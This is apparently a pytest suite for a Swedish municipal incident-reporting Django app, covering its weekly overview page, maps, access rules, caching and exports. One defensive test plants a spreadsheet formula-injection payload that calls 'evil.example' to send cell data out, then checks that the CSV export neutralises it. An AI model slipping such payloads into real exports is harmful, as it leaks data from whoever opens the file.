from __future__ import annotations

import datetime as dt
import re

import numpy as np
import pytest
from django.urls import reverse
from django.utils import timezone

from lofte.core.models import AuditAction, AuditEntry
from lofte.incidents.demo import generate
from lofte.incidents.models import Incident
from lofte.incidents.picture import PictureQuery, build_picture, poisson_upper_p

pytestmark = pytest.mark.django_db
TOWN = (57.4276, 15.0780)


@pytest.fixture
def year_of_reports(vetlanda, categories, reporter):
    end = timezone.now()
    start = end - dt.timedelta(days=120)
    org = vetlanda.organisations.get(name="Vetlanda Bostäder")
    incidents = generate(vetlanda, 600, start, end, seed=1, reporters=[(reporter, org)],
                         places=None, town=TOWN, escalation=False)
    Incident.objects.bulk_create(incidents)
    return incidents


def url(name, **params):
    base = reverse(f"incidents:{name}", kwargs={"slug": "vetlanda"})
    return base + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else "")


def test_picture_page(login, coordinator, year_of_reports, django_assert_max_num_queries):
    client = login(coordinator)
    with django_assert_max_num_queries(20):
        response = client.get(url("picture"))
    assert response.status_code == 200
    body = response.content.decode()
    assert "Veckobild" in body and "<svg" in body and "Kategorier jämfört med tidigare" in body


def test_picture_counts_match_database(vetlanda, year_of_reports):
    today = timezone.localdate()
    query = PictureQuery(today - dt.timedelta(days=13), today)
    picture = build_picture(vetlanda, query)
    start, end = query.window()
    expected = Incident.objects.counted().filter(
        collaboration=vetlanda, occurred_from__gte=start, occurred_from__lt=end).count()
    assert picture.total == expected == sum(r.now for r in picture.categories)
    assert sum(map(sum, picture.hour_of_week)) == expected
    assert picture.trend_counts[-1] == expected
    assert picture.hot_cells["lofte"]["kind"] == "cells"


def test_escalation_is_flagged(vetlanda, categories, year_of_reports, reporter):
    now = timezone.now()
    lat, lon = TOWN
    Incident.objects.bulk_create([Incident(
        collaboration=vetlanda, category=categories["brand"], lat=lat, lon=lon,
        occurred_from=now - dt.timedelta(hours=3 + i), reporter=reporter) for i in range(12)])
    today = timezone.localdate()
    picture = build_picture(vetlanda, PictureQuery(today - dt.timedelta(days=6), today))
    flags = {row.category.code: row.flag for row in picture.categories}
    assert flags["brand"] in {"ökar", "nytt"}


def test_poisson_upper_tail():
    assert poisson_upper_p(0, 3.0) == 1.0
    assert poisson_upper_p(10, 2.0) < 0.001
    assert 0.3 < poisson_upper_p(3, 3.0) < 0.7


def test_map_data_layers(login, coordinator, year_of_reports, django_assert_max_num_queries):
    client = login(coordinator)
    with django_assert_max_num_queries(12):
        points = client.get(url("picture_map", **{"from": (timezone.localdate() - dt.timedelta(
            days=60)).isoformat()})).json()
    assert points["lofte"]["kind"] == "points" and points["features"]
    assert points["features"][0]["properties"]["url"].startswith("/samverkan/vetlanda/")
    assert client.get(url("picture_map", layer="hotspots")).json()["lofte"]["kind"] == "cells"
    assert client.get(url("picture_map", layer="nope")).status_code == 400


def test_invalid_period_is_reported(login, coordinator, vetlanda):
    response = login(coordinator).get(url("picture", **{"from": "igår", "to": "2026-13-01"}))
    assert response.status_code == 200
    assert "Ange datum som ÅÅÅÅ-MM-DD." in response.content.decode()


def test_access(login, outsider, reporter, reader, coordinator, almhult, vetlanda):
    assert login(outsider).get(url("picture")).status_code == 404
    assert login(reporter).get(url("picture")).status_code == 403
    assert login(reader).get(url("picture")).status_code == 200
    assert login(reader).get(url("picture_csv")).status_code == 403
    reader_points = login(reader).get(url("picture_map")).json()
    assert all("url" not in f["properties"] for f in reader_points["features"])


def test_exports(login, coordinator, year_of_reports):
    client = login(coordinator)
    since = (timezone.localdate() - dt.timedelta(days=30)).isoformat()
    response = client.get(url("picture_csv", **{"from": since}))
    lines = b"".join(response.streaming_content).decode("utf-8-sig").strip().splitlines()
    geo = client.get(url("picture_geojson", **{"from": since})).json()
    assert len(lines) - 1 == len(geo["features"]) > 0
    assert lines[0].startswith("nr;från;till;kategori")
    assert AuditEntry.objects.filter(action=AuditAction.EXPORT).count() == 2


def test_pdf_sheet(login, coordinator, year_of_reports):
    response = login(coordinator).get(url("picture_pdf"))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content[:4] == b"%PDF"


def test_generated_points_stay_inside_kommun(vetlanda, categories, reporter):
    from lofte.geo.locate import municipality_index

    end = timezone.now()
    incidents = generate(vetlanda, 300, end - dt.timedelta(days=30), end, seed=3,
                         reporters=[], places=None, town=TOWN, escalation=False)
    codes = municipality_index().locate_many(np.array([i.lat for i in incidents]),
                                             np.array([i.lon for i in incidents]))
    assert set(codes) == {"0685"}


def test_cached_picture_is_refreshed_by_a_new_report(vetlanda, year_of_reports, reporter,
                                                     make_incident, settings,
                                                     django_capture_on_commit_callbacks):
    from django.core.cache import cache

    cache.clear()
    settings.LOFTE_PICTURE_CACHE_SECONDS = 300
    today = timezone.localdate()
    query = PictureQuery(today - dt.timedelta(days=6), today)
    before = build_picture(vetlanda, query).total
    Incident.objects.filter(collaboration=vetlanda).delete()  # around the services
    assert build_picture(vetlanda, query).total == before  # still served from the cache
    with django_capture_on_commit_callbacks(execute=True):
        make_incident(reporter, hours_ago=1)  # through the services: the cache goes stale
    assert build_picture(vetlanda, query).total == 1
    cache.clear()


def test_cached_page_and_map_layers_show_a_new_report(login, coordinator, reporter, vetlanda,
                                                      year_of_reports, settings,
                                                      django_capture_on_commit_callbacks):
    """With the caches on, what the coordinator sees changes with the next report."""
    from django.core.cache import cache

    cache.clear()
    settings.LOFTE_PICTURE_CACHE_SECONDS = 300
    client = login(coordinator)

    def seen():
        page = client.get(url("picture"))
        assert page.status_code == 200
        points = client.get(url("picture_map")).json()
        heat = client.get(url("picture_map", layer="heat")).json()
        hot = client.get(url("picture_map", layer="hotspots")).json()
        assert heat["lofte"]["kind"] == hot["lofte"]["kind"] == "cells"
        shown = re.search(r'class="stat__value">([^<]+)<', page.content.decode())
        return (int(shown.group(1).replace("\xa0", "").replace(" ", "").replace(",", "")),
                {f["properties"]["url"] for f in points["features"]}, heat, hot)

    total, urls, heat, hot = seen()
    assert seen() == (total, urls, heat, hot)  # served again from the cache
    lat, lon = 57.4285, 15.0780  # a new place in Vetlanda: the heat surface must change
    api = login(reporter)
    with django_capture_on_commit_callbacks(execute=True):
        created = api.post("/api/v1/collaborations/vetlanda/incidents", {
            "category": "klotter", "occurred_from": timezone.now().isoformat(),
            "lat": lat, "lon": lon, "description": "Ny rapport"},
            content_type="application/json")
    assert created.status_code == 201, created.content
    new_total, new_urls, new_heat, _ = seen()
    assert new_total == total + 1
    assert f"/samverkan/vetlanda/rapporter/{created.json()['id']}/" in new_urls
    assert new_heat != heat
    cache.clear()


def test_csv_export_neutralises_formulas_in_every_text_cell(login, coordinator, vetlanda,
                                                            categories, make_incident):
    """A place, a category or an organisation named like a spreadsheet formula leaves the
    weekly picture's CSV as text (leading apostrophe), never as a formula."""
    from lofte.incidents import services

    formula = '=HYPERLINK("http://evil.example/?"&A1;"klicka")'
    lat, lon = vetlanda.municipality.centre_lat, vetlanda.municipality.centre_lon
    place = services.create_place(None, vetlanda, name=formula, lat=lat, lon=lon)
    category = categories["klotter"]
    category.name = "+" + "SUM(1;2)"
    category.save(update_fields=["name"])
    make_incident(coordinator, place=place)
    since = (timezone.localdate() - dt.timedelta(days=7)).isoformat()
    body = b"".join(login(coordinator).get(url("picture_csv", **{"from": since}))
                    .streaming_content).decode("utf-8-sig")
    import csv
    import io

    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells and "'+SUM(1;2)" in cells
    assert not [c for c in cells if c[:1] in {"=", "+", "@"}]
